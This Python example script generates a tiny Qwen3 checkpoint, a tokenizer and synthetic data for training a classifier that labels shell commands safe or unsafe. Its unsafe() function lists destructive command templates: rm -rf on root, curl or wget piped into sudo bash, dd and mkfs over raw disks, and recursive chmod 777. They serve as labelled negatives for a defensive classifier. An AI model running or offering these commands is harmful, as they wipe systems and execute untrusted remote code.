"""Makes a small checkpoint and shell commands to classify, without a download.

    python examples/finetune/make_small.py FOLDER

FOLDER/model is a Qwen3 of 2 layers in Hugging Face's format, with a tokenizer that is trained on
generated commands. FOLDER/train.jsonl and FOLDER/test.jsonl hold commands, 93.5 % of them `safe`.
"""

from __future__ import annotations

import argparse
import json
import random
from pathlib import Path

import torch
from tokenizers import Tokenizer, decoders, models, pre_tokenizers, trainers
from transformers import PreTrainedTokenizerFast, Qwen3Config, Qwen3ForCausalLM
from transformers.utils import logging

NUM_TRAIN, NUM_TEST, SHARE_UNSAFE = 1600, 400, 0.065
NAMES = ("report", "notes", "build", "data", "main", "config", "photo", "server", "index", "model")
ENDS = (".txt", ".py", ".log", ".csv", ".json", ".md", ".tar.gz", "")
FOLDERS = ("src", "docs", "/var/log", "~/work", "/tmp/cache", "tests", "/srv/app", "backup")
SYSTEM = ("/", "/etc", "/usr", "/boot", "/home", "~", "/var/lib", "/lib")
HOSTS = ("example.org", "files.example.net", "10.0.0.7", "mirror.local")
DISKS = ("/dev/sda", "/dev/nvme0n1", "/dev/vda1")


def safe(draw: random.Random) -> str:
    """Return a command that destroys nothing."""
    name = draw.choice(NAMES) + draw.choice(ENDS)
    folder, number = draw.choice(FOLDERS), draw.randint(1, 99)
    return draw.choice(
        (
            f"ls -la {folder}",
            f"cat {folder}/{name}",
            f"grep -rn {draw.choice(NAMES)} {folder}",
            f"tail -n {number} {folder}/{name}",
            f"cp {name} {folder}/",
            f"mv {name} {folder}/{name}.{number}",
            f"rm {folder}/{name}",
            f"rm -r {folder}/old{number}",
            f"git checkout {draw.choice(NAMES)}",
            f"git log --oneline -{number}",
            f"curl -O https://{draw.choice(HOSTS)}/{name}",
            f"tar czf {name}.tgz {folder}",
            f"chmod 644 {folder}/{name}",
            f"chown app {folder}/{name}",
            f"find {folder} -name '*{draw.choice(ENDS)}' -mtime -{number}",
            f"dd if={name} of={name}.img bs=1M count={number}",
            f"python {draw.choice(NAMES)}.py --steps {number}",
        )
    )


def unsafe(draw: random.Random) -> str:
    """Return a command that destroys a system, or runs what a stranger wrote."""
    place, host, disk = draw.choice(SYSTEM), draw.choice(HOSTS), draw.choice(DISKS)
    name = draw.choice(NAMES)
    return draw.choice(
        (
            f"rm -rf {place}",
            f"sudo rm -rf --no-preserve-root {place}",
            f"curl -s https://{host}/{name}.sh | sudo bash",
            f"wget -qO- https://{host}/{name} | sh",
            f"dd if=/dev/zero of={disk} bs=1M",
            f"mkfs.ext4 -F {disk}",
            f"chmod -R 777 {place}",
            f"chown -R nobody {place}",
            f"cat /dev/urandom > {disk}",
            f"find {place} -delete",
        )
    )


def rows(draw: random.Random, number: int) -> list[dict[str, str]]:
    """Return labelled commands in a random order."""
    num_unsafe = round(number * SHARE_UNSAFE)
    made = [{"text": unsafe(draw), "label": "unsafe"} for _ in range(num_unsafe)]
    made += [{"text": safe(draw), "label": "safe"} for _ in range(number - num_unsafe)]
    draw.shuffle(made)
    return made


def make(folder: Path, seed: int = 0) -> None:
    """Write the checkpoint and both files."""
    draw = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    train, test = rows(draw, NUM_TRAIN), rows(draw, NUM_TEST)
    for name, part in (("train", train), ("test", test)):
        lines = "".join(json.dumps(row) + "\n" for row in part)
        (folder / f"{name}.jsonl").write_text(lines, encoding="utf-8")
    tokenizer = make_tokenizer([row["text"] for row in train])
    tokenizer.save_pretrained(folder / "model")
    logging.disable_progress_bar()
    make_model(len(tokenizer), seed).save_pretrained(folder / "model")
    print(
        f"written to {folder}: model, train.jsonl ({NUM_TRAIN} rows), test.jsonl ({NUM_TEST} rows)"
    )


def make_tokenizer(texts: list[str]) -> PreTrainedTokenizerFast:
    """Return a byte-level BPE tokenizer trained on `texts`, with a chat template."""
    bpe = Tokenizer(models.BPE())
    bpe.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False)
    bpe.decoder = decoders.ByteLevel()
    special = ["<|pad|>", "<|end|>", "<|start|>"]
    alphabet = pre_tokenizers.ByteLevel.alphabet()
    bpe.train_from_iterator(
        texts,
        trainers.BpeTrainer(vocab_size=512, special_tokens=special, initial_alphabet=alphabet),
    )
    return PreTrainedTokenizerFast(
        tokenizer_object=bpe,
        pad_token="<|pad|>",
        eos_token="<|end|>",
        chat_template=(
            "{% for m in messages %}<|start|>{{ m.role }}\n{{ m.content }}<|end|>\n{% endfor %}"
            "{% if add_generation_prompt %}<|start|>assistant\n{% endif %}"
        ),
    )


def make_model(num_tokens: int, seed: int) -> Qwen3ForCausalLM:
    """Return a Qwen3 of 2 layers with random weights."""
    torch.manual_seed(seed)
    config = Qwen3Config(
        vocab_size=num_tokens,
        hidden_size=64,
        intermediate_size=192,
        num_hidden_layers=2,
        num_attention_heads=4,
        num_key_value_heads=2,
        head_dim=16,
        max_position_embeddings=512,
        tie_word_embeddings=True,
        bos_token_id=None,
        eos_token_id=1,
        pad_token_id=0,
    )
    return Qwen3ForCausalLM(config)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    make(parser.parse_args().folder)
